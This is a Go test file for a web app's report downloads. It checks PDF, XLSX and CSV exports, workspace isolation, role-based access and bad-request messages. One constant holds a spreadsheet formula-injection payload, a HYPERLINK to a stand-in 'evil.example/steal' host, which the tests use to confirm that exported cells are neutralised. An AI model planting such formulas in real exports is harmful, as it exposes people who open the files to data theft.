package web

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"vox/internal/report"
	"vox/internal/store"
)

// formulaTouchpoint is customer-supplied text that a spreadsheet would run.
const formulaTouchpoint = `=HYPERLINK("http://evil.example/steal","click")`

// seedReport gives workspace A a realistic period (with a formula in a
// touchpoint, which the report's journey table shows) and workspace B an
// item of its own.
func seedReport(t *testing.T, f *fixture) {
	t.Helper()
	seedJourney(t, f.db, f.wsA.ID, 300, 4)
	f.seedFeedback(f.wsA.ID, "", store.FeedbackItem{Kind: "survey_response", Channel: "web", Text: "formula", NPS: ptr(1),
		Touchpoint: formulaTouchpoint, Stage: "usage", OccurredAt: time.Now()})
	f.seedFeedback(f.wsB.ID, "", store.FeedbackItem{Kind: "survey_response", Channel: "web", Text: "globex", NPS: ptr(9),
		Touchpoint: "globex_branch", Stage: "usage", OccurredAt: time.Now()})
}

// TestReportDownloads downloads each format and opens it as its reader
// would: PDF header, XLSX through excelize, CSV through encoding/csv.
func TestReportDownloads(t *testing.T) {
	f := newFixture(t)
	seedReport(t, f)
	c := f.loggedIn("viewer")

	page := c.get("/reports")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("reports: %d\n%s", page.StatusCode, page.Body)
	}
	mustContain(t, page.Body, "Last 7 days", "Last 30 days", "Last 90 days", "This quarter so far", "Last full quarter",
		"Key metrics", "Journey heat map", "Revenue at risk", `action="/reports/download"`, `name="format" value="pdf"`)
	mustNotContain(t, page.Body, "schedule", "Schedule")
	links := regexp.MustCompile(`href="(/reports/download\?[^"]+)"`).FindAllStringSubmatch(page.Body, -1)
	if len(links) != len(reportPresets)*len(reportFormats) {
		t.Fatalf("page has %d download links", len(links))
	}

	today := time.Now().In(workspaceLocation(f.wsA)).Format("2006-01-02")
	from := time.Now().In(workspaceLocation(f.wsA)).AddDate(0, 0, -29).Format("2006-01-02")
	get := func(format string) response {
		res := c.get("/reports/download?format=" + format + "&from=" + from + "&to=" + today + "&report_lang=en")
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d\n%s", format, res.StatusCode, res.Body)
		}
		want := `attachment; filename="vox-report-` + idText(f.wsA.ID) + "-" + from + "-" + today + "-en." + format + `"`
		if cd := res.Header.Get("Content-Disposition"); cd != want {
			t.Errorf("%s: Content-Disposition %q, want %q", format, cd, want)
		}
		return res
	}

	pdf := get("pdf")
	if ct := pdf.Header.Get("Content-Type"); ct != "application/pdf" || !strings.HasPrefix(pdf.Body, "%PDF-") {
		t.Errorf("pdf: %s, starts %q", ct, pdf.Body[:min(8, len(pdf.Body))])
	}

	xlsx := get("xlsx")
	if ct := xlsx.Header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("xlsx content type %s", ct)
	}
	book, err := excelize.OpenReader(strings.NewReader(xlsx.Body))
	if err != nil {
		t.Fatalf("xlsx does not open: %v", err)
	}
	var cells []string
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			cells = append(cells, r...)
		}
	}
	book.Close()
	checkCells(t, "xlsx", cells)

	csvRes := get("csv")
	if ct := csvRes.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("csv content type %s", ct)
	}
	r := csv.NewReader(bytes.NewReader([]byte(strings.TrimPrefix(csvRes.Body, "\ufeff"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv does not parse: %v", err)
	}
	cells = cells[:0]
	for _, rec := range recs {
		cells = append(cells, rec...)
	}
	checkCells(t, "csv", cells)

	// The language follows report_lang, or lang (the UI's switch) without it.
	ru := c.get("/reports/download?format=csv&report_lang=ru")
	mustContain(t, ru.Body, "Ключевые показатели")
	zh := c.get("/reports/download?format=csv&lang=zh")
	mustContain(t, zh.Body, "关键指标")
	if cd := zh.Header.Get("Content-Disposition"); !strings.Contains(cd, "-zh.csv") {
		t.Errorf("zh filename %q", cd)
	}
	c.get("/reports?lang=en")

	// Presets compute their own dates.
	q := c.get("/reports/download?format=csv&period=quarter")
	if q.StatusCode != http.StatusOK || !strings.Contains(q.Header.Get("Content-Disposition"), "-"+today+"-") {
		t.Errorf("quarter: %d %q", q.StatusCode, q.Header.Get("Content-Disposition"))
	}
}

// checkCells: the report holds workspace A's data only, and customer text
// that looks like a formula stays text.
func checkCells(t *testing.T, format string, cells []string) {
	t.Helper()
	found := false
	for _, c := range cells {
		if c == "'"+formulaTouchpoint {
			found = true
		}
		if c != "" && strings.ContainsRune("=+@", rune(c[0])) {
			t.Errorf("%s: cell %q would run as a formula", format, c)
		}
		if strings.Contains(c, "globex") {
			t.Errorf("%s: another workspace's data: %q", format, c)
		}
	}
	if !found {
		t.Errorf("%s: the formula touchpoint is missing or not neutralised", format)
	}
	if !cellsHave(cells, "delivery") {
		t.Errorf("%s: own journey data missing", format)
	}
}

func cellsHave(xs []string, x string) bool {
	for _, s := range xs {
		if s == x {
			return true
		}
	}
	return false
}

func idText(n int64) string { return strconv.FormatInt(n, 10) }

// TestReportBadRequests: every bad parameter gets the reports page with
// status 400 and a message that says what is wrong, the form kept.
func TestReportBadRequests(t *testing.T) {
	f := newFixture(t)
	c := f.loggedIn("manager")
	for query, msg := range map[string]string{
		"":                           "Unknown file format",
		"format=doc":                 "Unknown file format",
		"format=pdf&report_lang=de":  "Unknown report language",
		"format=pdf&period=decade":   "Unknown period",
		"format=pdf&from=2026-13-01": "The start date is not a date",
		"format=pdf&to=yesterday":    "The end date is not a date",
		"format=xlsx&from=2026-05-10&to=2026-05-01":              "The end date is before the start date",
		"format=csv&from=2000-01-01&to=2026-05-01":               "The period is too long",
		"format=pdf&period=custom&from=2026-05-10&to=2026-04-01": "The end date is before the start date",
	} {
		res := c.get("/reports/download?" + query)
		if res.StatusCode != http.StatusBadRequest {
			t.Errorf("%q: %d, want 400", query, res.StatusCode)
			continue
		}
		if ct := res.Header.Get("Content-Type"); ct != "text/html; charset=utf-8" {
			t.Errorf("%q: content type %s", query, ct)
		}
		mustContain(t, res.Body, `role="alert"`, msg, `action="/reports/download"`)
	}
	// The refused custom dates stay in the form.
	res := c.get("/reports/download?format=pdf&period=custom&from=2026-05-10&to=2026-04-01")
	mustContain(t, res.Body, `value="2026-05-10"`, `value="2026-04-01"`, `value="custom" checked`)
	// Messages are translated.
	ru := c.get("/reports/download?format=doc&lang=ru")
	mustContain(t, ru.Body, "Неизвестный формат файла")
	c.get("/reports?lang=en")
}

// TestReportIsolationAndRoles: a report holds only the workspace of the
// session; roles without ViewReports get 403 for the page and the file.
func TestReportIsolationAndRoles(t *testing.T) {
	f := newFixture(t)
	seedReport(t, f)
	c := f.loggedIn("multi")
	a := c.get("/reports/download?format=csv")
	mustContain(t, a.Body, "delivery")
	mustNotContain(t, a.Body, "globex_branch")
	if !strings.Contains(a.Header.Get("Content-Disposition"), "vox-report-"+idText(f.wsA.ID)+"-") {
		t.Errorf("A's filename %q", a.Header.Get("Content-Disposition"))
	}
	home := c.get("/")
	if res := c.post("/workspace", url.Values{"csrf": {csrfFrom(t, home.Body)}, "workspace_id": {idText(f.wsB.ID)}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("switch: %d", res.StatusCode)
	}
	b := c.get("/reports/download?format=csv")
	mustContain(t, b.Body, "globex_branch")
	mustNotContain(t, b.Body, "delivery", "HYPERLINK")

	for _, role := range []string{store.RoleAgent, store.RoleEmployee} {
		rc := f.loggedIn(role)
		for _, p := range []string{"/reports", "/reports/download?format=pdf"} {
			if res := rc.get(p); res.StatusCode != http.StatusForbidden || strings.HasPrefix(res.Body, "%PDF") {
				t.Errorf("%s: %s %d, want 403", role, p, res.StatusCode)
			}
		}
	}
	if res := f.client().get("/reports/download?format=pdf"); res.StatusCode != http.StatusSeeOther {
		t.Errorf("anonymous download: %d, want a redirect to login", res.StatusCode)
	}
}

func TestReportPeriodDays(t *testing.T) {
	today := store.DayFromDate(2026, 5, 14)
	for key, want := range map[string][2]string{
		"7d": {"2026-05-08", "2026-05-14"}, "30d": {"2026-04-15", "2026-05-14"}, "90d": {"2026-02-14", "2026-05-14"},
		"quarter": {"2026-04-01", "2026-05-14"}, "last_quarter": {"2026-01-01", "2026-03-31"},
	} {
		from, to, ok := reportPeriodDays(key, today)
		if !ok || from.String() != want[0] || to.String() != want[1] {
			t.Errorf("%s: %s..%s, want %s..%s", key, from, to, want[0], want[1])
		}
	}
	from, to, _ := reportPeriodDays("last_quarter", store.DayFromDate(2026, 1, 1))
	if from.String() != "2025-10-01" || to.String() != "2025-12-31" {
		t.Errorf("last quarter of 1 Jan: %s..%s", from, to)
	}
	if _, _, ok := reportPeriodDays("year", today); ok {
		t.Error("unknown preset accepted")
	}
}

// sampleReports is the reports page after a refused download, for the
// template test.
func sampleReports() reportsData {
	d := reportsData{Period: "custom", From: "2026-05-10", To: "2026-04-01", Lang: "ru", Langs: report.Languages,
		Formats: reportFormats, Sections: reportSections, Error: "The end date is before the start date.",
		LangURLs: map[string]string{"en": "/reports?report_lang=en", "ru": "/reports?report_lang=ru", "zh": "/reports?report_lang=zh"}}
	today := store.DayFromDate(2026, 5, 14)
	for _, key := range reportPresets {
		from, to, _ := reportPeriodDays(key, today)
		p := reportPeriod{Key: key, From: from.String(), To: to.String(), Days: int(to - from + 1), Links: map[string]string{}}
		for _, f := range reportFormats {
			p.Links[f] = "/reports/download?format=" + f + "&from=" + p.From + "&to=" + p.To + "&report_lang=ru"
		}
		d.Periods = append(d.Periods, p)
	}
	return d
}
